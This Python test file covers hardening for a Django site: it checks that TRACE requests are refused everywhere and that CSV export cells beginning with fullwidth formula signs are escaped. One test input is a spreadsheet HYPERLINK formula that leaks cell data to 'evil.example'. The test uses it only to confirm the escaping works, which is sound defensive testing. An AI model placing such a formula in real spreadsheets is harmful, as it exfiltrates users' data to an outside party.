"""Small hardening: TRACE is refused everywhere, and fullwidth formula signs are escaped in the CSV export."""

import pytest

from exercises.leads.exports import escape_cell


@pytest.mark.django_db
@pytest.mark.parametrize(
    "path",
    [
        "/",
        "/compare/leg-press-vs-hip-thrust/",
        "/consultation/",
        "/admin/",
        "/admin/login/",
        "/static/css/site.css",
        "/favicon.ico",
        "/healthz",
        "/no-such-page/",
    ],
)
def test_trace_is_refused_everywhere(client, content, path):
    response = client.generic("TRACE", path, HTTP_COOKIE="sessionid=secret-cookie", HTTP_X_PROBE="echo-me")

    assert response.status_code == 405
    assert set(response["Allow"].replace(" ", "").split(",")) >= {"GET", "HEAD"}
    assert "TRACE" not in response["Allow"]
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert b"echo-me" not in body and b"secret-cookie" not in body
    # Refused like any other response: the security headers are still on it.
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "default-src 'self'" in response["Content-Security-Policy"]


@pytest.mark.django_db
def test_other_methods_are_untouched(client, content):
    assert client.get("/").status_code == 200
    assert client.head("/static/css/site.css").status_code == 200
    assert client.post("/consultation/", {}).status_code != 405


@pytest.mark.parametrize("sign", ["＝", "＋", "－", "＠"])
def test_fullwidth_formula_signs_get_the_leading_apostrophe(sign):
    # Spreadsheets in East Asian locales read the fullwidth signs as their ASCII ones, so these run as formulas too.
    cell = f'{sign}HYPERLINK("https://evil.example/?leak="&A1,"Click me")'

    assert escape_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Zoë Núñez", "ｍａｒｉａ", "512＝555", "A＋"])
def test_cells_with_a_fullwidth_sign_inside_are_left_alone(cell):
    assert escape_cell(cell) == cell
